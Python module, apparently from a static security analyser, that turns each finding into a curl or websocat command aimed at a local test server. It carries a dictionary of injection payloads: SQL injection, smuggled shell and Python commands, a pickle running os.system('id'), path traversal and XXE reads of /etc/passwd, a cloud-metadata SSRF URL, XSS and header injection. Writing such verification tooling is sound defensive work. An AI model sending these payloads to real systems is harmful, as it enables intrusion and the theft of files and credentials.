"""A request that carries a harmful value to where it does harm: a command that can be tried on a test system."""

from __future__ import annotations

import json
import re
import shlex
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlencode

from .inputs import alias_of

if TYPE_CHECKING:
    from ...module.summary import Expr
    from ..application.rows import RouteRow
    from ..requests import Requests
    from ..type_terms import Type
    from .engine import Finding

HOST = "http://localhost:8000"

PAYLOADS: dict[str, str] = {
    "sql": "x' OR '1'='1",
    "command": "x; id",
    "program": "/usr/bin/id",
    "code": "__import__('os').system('id')",
    "module": "antigravity",
    "path": "../../../../etc/passwd",
    "directory": "..",
    "url": "http://169.254.169.254/latest/meta-data/",
    "html": "<script>alert(document.domain)</script>",
    "pickle": "gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "template": "{{7*7}}",
    "redirect": "https://attacker.example/",
    "nosql": '{"$ne": null}',
    "ldap": "*)(uid=*",
    "header": "x\r\nSet-Cookie: session=attacker",
    "log": "x\nINFO login of admin succeeded",
    "regex": "(a+)+$",
    "backtracking": "a" * 40 + "!",
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "attribute": "is_admin",
    "fields": '{"is_admin": true}',
    "archive": "evil.tar",
}
"""By kind of sink: a value that shows the harm and does none. The pickle calls `os.system("id")`."""

_SAMPLES = {
    "builtins.int": 1,
    "builtins.float": 1.0,
    "builtins.bool": True,
    "uuid.UUID": "0" * 8 + "-0000-4000-8000-" + "0" * 12,
}
_CONTENTS = {"archive": "evil.tar", "pickle": "evil.pickle", "xml": "evil.xml"}
"""Files that have to be made first."""
_MAX_DEPTH = 5


def request(finding: Finding, row: RouteRow, requests: Requests) -> str:
    """A command for a shell: `curl …` for HTTP, `websocat …` for a websocket."""
    payload = PAYLOADS.get(finding.kind, "x")
    source = finding.source
    name = parameter(finding)
    others = _others(finding, row, requests)
    path = _filled(row.path, name if source.kind == "path" else None, payload, others["path"])
    query: dict[str, Any] = {**others["query"], **({name or "x": payload} if source.kind == "query" else {})}
    url = HOST + path + ("?" + urlencode(query, quote_via=quote, doseq=True) if query else "")
    words: list[str] = []
    for header, value in {**others["header"], **({name or "x": payload} if source.kind == "header" else {})}.items():
        words += ["-H", f"{header if '-' in header else header.replace('_', '-')}: {_one_line(str(value))}"]
    if row.method == "WEBSOCKET":
        sent = json.dumps(_nested(finding.part, payload)) if finding.part else payload
        command = " ".join(shlex.quote(word) for word in ("websocat", *words, "ws" + url[4:]))
        return f"echo {shlex.quote(sent)} | {command}" if source.kind == "message" else command
    if row.method != "GET":
        words = ["-X", row.method, *words]
    cookies = {**others["cookie"], **({name or "x": payload} if source.kind == "cookie" else {})}
    if cookies:
        words += ["-b", "; ".join(f"{key}={quote(str(value))}" for key, value in cookies.items())]
    form = {**others["form"], **({name or "x": payload} if source.kind == "form" else {})}
    if source.kind == "file" or others["file"]:
        words += [word for key, value in form.items() for word in ("-F", f"{key}={value}")]
        words += [word for key in others["file"] for word in ("-F", f"{key}=@/dev/null")]
        words += ["-F", _upload(finding, payload)] if source.kind == "file" else []
    else:
        words += [word for key, value in form.items() for word in ("--data-urlencode", f"{key}={value}")]
    if source.kind == "body" or others["body"]:
        words += _sent(finding, payload, others["body"], requests)
    if source.kind == "path" and finding.kind in ("path", "directory"):
        words.append("--path-as-is")
    return " ".join(shlex.quote(word) for word in ("curl", *words, url))


def _others(finding: Finding, row: RouteRow, requests: Requests) -> dict[str, dict[str, Any]]:
    """Samples of what else the route wants, by where it stands: path parameters, and all without a default."""
    found: dict[str, dict[str, Any]] = {
        kind: {} for kind in ("path", "query", "header", "cookie", "body", "form", "file")
    }
    symbols = dict.fromkeys((f"{row.file}:{row.endpoint_qualname}", finding.handler))
    for symbol in symbols:
        own = requests.types.function(symbol)
        if own is None:
            continue
        summary, function = own
        for position, (name, _, annotation, default) in enumerate(function.parameters):
            kind = requests.source(summary, function, position) or ("path" if f"{{{name}" in row.path else None)
            if f"{{{name}" in row.path and kind == "query":
                kind = "path"
            if kind not in found or (default is not None and not _is_required(default)):
                continue
            if name == finding.source.name and kind == finding.source.kind:
                continue
            declared = requests.types.annotation(summary, annotation) if annotation is not None else None
            if kind != "path" and declared is not None and declared[0] == "union" and ("none",) in declared[1]:
                continue
            told = alias_of(requests.types, summary, annotation, default) or name
            found[kind][told] = _value(declared, (), None, requests, 0)
    return found


def _is_required(default: Expr) -> bool:
    """`...`, `Query()`, `Body(..., embed=True)`"""
    if default == ("k", ...):
        return True
    return default[0] == "c" and (not default[2] or default[2][0] == ("k", ...)) and "default" not in dict(default[3])


def _is_embedded(finding: Finding, requests: Requests) -> bool:
    """`Body(embed=True)`"""
    own = requests.types.function(finding.source.symbol)
    for name, _, annotation, default in own[1].parameters if own is not None else ():
        if own is not None and name == finding.source.name:
            marks = [default, *(expr for _, expr in requests.types.metadata(own[0], annotation))]
            return any(mark is not None and mark[0] == "c" and ("embed", ("k", True)) in mark[3] for mark in marks)
    return False


def _upload(finding: Finding, payload: str) -> str:
    name = finding.source.name or "file"
    if finding.kind in _CONTENTS and finding.part[:1] != (".filename",):
        return f"{name}=@{_CONTENTS[finding.kind]}"
    if finding.part[:1] == (".content_type",):
        return f"{name}=@/dev/null;type={_one_line(payload)}"
    return f"{name}=@/dev/null;filename={_one_line(payload)}"


def _sent(finding: Finding, payload: str, others: dict[str, Any], requests: Requests) -> list[str]:
    """The body, as `-H` and `-d`."""
    if finding.source.kind != "body":
        only = next(iter(others.values())) if len(others) == 1 else others
        return ["-H", "Content-Type: application/json", "-d", json.dumps(only)]
    is_text = not finding.source.name and not finding.part and finding.source.type is None
    if is_text and not (finding.steps and ".json" in finding.steps[0].text):
        return ["-H", "Content-Type: application/octet-stream", "--data-binary", payload]
    value = json.loads(payload) if finding.kind == "nosql" else payload
    body = _body(finding, value, requests)
    if finding.source.name and (others or _is_embedded(finding, requests)):
        # Each of several parameters stands under its name.
        body = {**others, finding.source.name: body}
    return ["-H", "Content-Type: application/json", "-d", json.dumps(body)]


def parameter(finding: Finding) -> str:
    """The name under which a client gives the input, where it is one text among others; empty when not known."""
    source = finding.source
    declared = source.type
    fields = declared is not None and declared[0] == "inst" and ":" in declared[1]
    if (not source.name or fields) and finding.part:
        return _first_part(finding)
    return source.name


def _first_part(finding: Finding) -> str:
    return finding.part[0].strip(".[]") if finding.part else ""


def _one_line(text: str) -> str:
    return text.replace("\r", "%0d").replace("\n", "%0a")


def _filled(path: str, name: str | None, payload: str, others: dict[str, Any]) -> str:
    """A path with the payload in one parameter and samples in the others."""

    def fill(match: re.Match[str]) -> str:
        if match[1] != name:
            return quote(str(others.get(match[1], 1)), safe="") if others.get(match[1]) != "x" else "1"
        return quote(payload, safe="/" if match[2] == ":path" else "")

    return re.sub(r"\{(\w+)(:\w+)?\}", fill, path)


def _body(finding: Finding, payload: Any, requests: Requests) -> Any:
    declared = finding.source.type
    if finding.kind in ("attribute", "fields") and _is_dictionary(declared, finding.part):
        payload = {finding.sink.rpartition(".")[2]: True}
    if declared is None:
        return _nested(finding.part, payload)
    return _value(declared, finding.part, payload, requests, 0)


def _is_dictionary(declared: Type | None, part: tuple[str, ...]) -> bool:
    return part != () or declared is None or declared[0] != "inst" or declared[1] != "builtins.str"


def _nested(part: tuple[str, ...], payload: Any) -> Any:
    """`{"user": {"name": payload}}`"""
    value: Any = payload
    for key in reversed(part):
        value = [value] if key == "[*]" else {key.strip(".[]"): value}
    return value


def _value(declared: Type | None, part: tuple[str, ...], payload: Any, requests: Requests, depth: int) -> Any:
    """A sample of a type, with the payload in one part of it."""
    if declared is not None and declared[0] == "union":
        rest = [member for member in declared[1] if member != ("none",)]
        declared = rest[0] if rest else None
    if declared is None or declared[0] != "inst" or depth > _MAX_DEPTH:
        return _nested(part, payload) if payload is not None else "x"
    cls, args = declared[1], declared[2]
    if cls in ("builtins.list", "builtins.set", "builtins.tuple", "typing.Sequence", "collections.abc.Sequence"):
        inner = part[1:] if part[:1] == ("[*]",) else part
        return [_value(args[0] if args else None, inner, payload, requests, depth + 1)]
    if ":" in cls and payload is None and requests.types.is_subclass(cls, ("enum.Enum",)) is True:
        return _first_member(cls, requests)
    if ":" in cls:
        return _model(cls, part, payload, requests, depth)
    if payload is None and cls == "builtins.dict":
        return {}
    if payload is not None and cls == "builtins.dict" and part:
        return _nested(part, payload)
    return payload if payload is not None else _SAMPLES.get(cls, "x")


def _first_member(cls: str, requests: Requests) -> Any:
    """The value of the first member of an enumeration, where it is written there."""
    own = requests.types.project_class(cls)
    if own is None:
        return "x"
    summary, definition = own
    facts = (summary.table[indices[-1]] for indices in definition.members.values())
    return next((fact[1][1] for fact in facts if fact[0] == "=" and fact[1][0] == "k"), "x")


def _model(cls: str, part: tuple[str, ...], payload: Any, requests: Requests, depth: int) -> Any:
    """The required fields of a model, and the one that the payload goes into."""
    found = {}
    wanted = part[0].strip(".[]") if part else None
    types = requests.types
    for field in requests.fields(cls):
        if field.name == wanted or not field.has_default:
            declared = types.attribute(("inst", cls, ()), field.name)
            here = payload if field.name == wanted else None
            found[field.name] = _value(declared, part[1:] if here is not None else (), here, requests, depth + 1)
    if payload is not None and wanted is None:
        return {**found, **(payload if isinstance(payload, dict) else {"x": payload})}
    return found
